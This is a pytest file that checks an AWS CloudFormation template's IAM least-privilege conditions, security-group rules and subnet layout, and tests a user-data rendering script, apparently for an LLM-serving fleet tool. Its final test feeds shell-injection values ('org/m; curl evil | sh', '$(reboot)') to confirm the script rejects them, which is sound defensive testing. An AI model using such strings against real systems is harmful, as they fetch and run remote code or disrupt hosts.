"""deploy/aws: the CloudFormation template passes cfn-lint, and its IAM and security groups say
what the provider's code relies on (the tags it sets at launch) and no more; the user-data
preview script prints the control plane's own boot script."""

from __future__ import annotations

import json
import runpy
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from cfnlint.decode import decode

from control_plane.providers.base import TAG_CLUSTER, TAG_MANAGED
from control_plane.providers.userdata import BootSpec, render
from tests.support.processes import REPO_ROOT

# The script as a module (scripts/ is not a package); its `main(argv)` returns the exit status.
render_userdata = SimpleNamespace(**runpy.run_path(str(REPO_ROOT / "scripts" /
                                                       "render_userdata.py")))
TEMPLATE = REPO_ROOT / "deploy" / "aws" / "flotilla.yaml"
RENDER = REPO_ROOT / "scripts" / "render_userdata.py"


def _template() -> dict[str, Any]:
    template, problems = decode(str(TEMPLATE))
    assert not problems and template is not None
    return template


def _statements() -> dict[str, dict[str, Any]]:
    policy = _template()["Resources"]["ControlPlanePolicy"]["Properties"]["PolicyDocument"]
    return {s["Sid"]: s for s in policy["Statement"]}


def _actions(statement: dict[str, Any]) -> list[str]:
    actions = statement["Action"]
    return [actions] if isinstance(actions, str) else list(actions)


def test_template_passes_cfn_lint() -> None:
    cfn_lint = Path(sys.executable).parent / "cfn-lint"  # installed with the dev extras
    result = subprocess.run([str(cfn_lint), str(TEMPLATE)],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stdout + result.stderr


def test_launch_and_terminate_are_conditioned_on_the_tags_the_provider_sets() -> None:
    statements = _statements()
    launch = statements["LaunchTaggedInstancesAndVolumes"]
    tags = launch["Condition"]["StringEquals"]
    assert tags[f"aws:RequestTag/{TAG_CLUSTER}"] == {"Ref": "ClusterName"}
    assert tags[f"aws:RequestTag/{TAG_MANAGED}"] == "true"
    terminate = statements["TerminateOnlyThisClustersInstances"]
    assert terminate["Condition"]["StringEquals"] == {
        f"aws:ResourceTag/{TAG_CLUSTER}": {"Ref": "ClusterName"},
        f"aws:ResourceTag/{TAG_MANAGED}": "true"}
    assert statements["TagOnlyAtLaunch"]["Condition"] == {
        "StringEquals": {"ec2:CreateAction": "RunInstances"}}
    # Instances and their volumes are the resources that must carry the tags.
    resources = {r["Fn::Sub"].rsplit(":", 1)[1] for r in launch["Resource"]}
    assert resources == {"instance/*", "volume/*"}


def test_provider_tags_both_instances_and_volumes_with_the_conditioned_tags() -> None:
    # The policy refuses a launch whose volume lacks the tags: the provider must tag both.
    source = (REPO_ROOT / "control_plane" / "providers" / "aws.py").read_text()
    assert '{"ResourceType": "volume", "Tags": tags[:4]}' in source
    assert source.index("TAG_CLUSTER, \"Value\"") < source.index("TAG_MANAGED, \"Value\"")


def test_control_plane_may_pass_only_the_worker_role_and_nothing_is_a_wildcard_write() -> None:
    statements = _statements()
    passrole = statements["PassOnlyTheWorkerRole"]
    assert passrole["Resource"] == {"Fn::GetAtt": ["WorkerRole", "Arn"]}
    assert passrole["Condition"]["StringEquals"]["iam:PassedToService"] == "ec2.amazonaws.com"
    for sid, statement in statements.items():
        if statement["Resource"] == "*":
            assert all(a.split(":")[1].startswith("Describe") for a in _actions(statement)), sid
        for action in _actions(statement):
            assert "*" not in action, f"{sid}: wildcard action {action}"


def test_engine_port_only_from_routers_and_agent_port_only_from_the_control_plane() -> None:
    resources = _template()["Resources"]
    ingress = [r["Properties"] for r in resources.values()
               if r["Type"] == "AWS::EC2::SecurityGroupIngress"]
    to_workers = [i for i in ingress if i["GroupId"] == {"Ref": "WorkerSecurityGroup"}]
    by_port = {(i["FromPort"], i["ToPort"]): i["SourceSecurityGroupId"]["Ref"]
               for i in to_workers}
    assert by_port == {(8000, 8001): "RouterSecurityGroup",
                       (8080, 8080): "ControlPlaneSecurityGroup"}
    assert "SecurityGroupIngress" not in resources["WorkerSecurityGroup"]["Properties"]
    # No rule anywhere opens a port to the whole internet.
    for resource in resources.values():
        rules = resource.get("Properties", {}).get("SecurityGroupIngress", [])
        assert all(rule.get("CidrIp") != "0.0.0.0/0" for rule in rules)


def test_new_vpc_spreads_subnets_over_three_zones() -> None:
    resources = _template()["Resources"]
    subnets = [r["Properties"] for r in resources.values() if r["Type"] == "AWS::EC2::Subnet"]
    zones = [s["AvailabilityZone"]["Fn::Select"][0] for s in subnets]
    assert sorted(zones) == [0, 1, 2]


def _render(*args: str, cwd: Path = REPO_ROOT) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, str(RENDER), *args], capture_output=True, text=True,
                          timeout=60, cwd=cwd)


def test_render_userdata_prints_the_control_planes_script_for_a_pool(tmp_path: Path) -> None:
    pool = tmp_path / "pool.json"
    pool.write_text(json.dumps({"model_id": "Qwen/Qwen2.5-7B-Instruct", "engine": "vllm",
                                "provider": "aws", "min_replicas": 0, "max_replicas": 4}))
    result = _render("--pool-file", str(pool), "--control-plane-url", "http://10.42.0.10:8003",
                     "--agent-package", "flotilla==0.1.0", "--check")
    assert result.returncode == 0, result.stderr
    expected = render(BootSpec(instance_id="i-flotilla-preview",
                               control_plane_url="http://10.42.0.10:8003",
                               model_id="Qwen/Qwen2.5-7B-Instruct", engine="vllm",
                               agent_package="flotilla==0.1.0"))
    assert result.stdout == expected
    assert "bytes of 16384 allowed" in result.stderr


@pytest.mark.parametrize("model", ["org/m; curl evil | sh", "$(reboot)"])
def test_render_userdata_refuses_values_that_could_inject_shell(
        model: str, capsys: pytest.CaptureFixture[str]) -> None:
    status = render_userdata.main(["--model-id", model, "--control-plane-url",
                                   "http://10.42.0.10:8003", "--agent-package", "flotilla==0.1.0"])
    out, err = capsys.readouterr()
    assert status == 2
    assert out == "" and "render_userdata:" in err
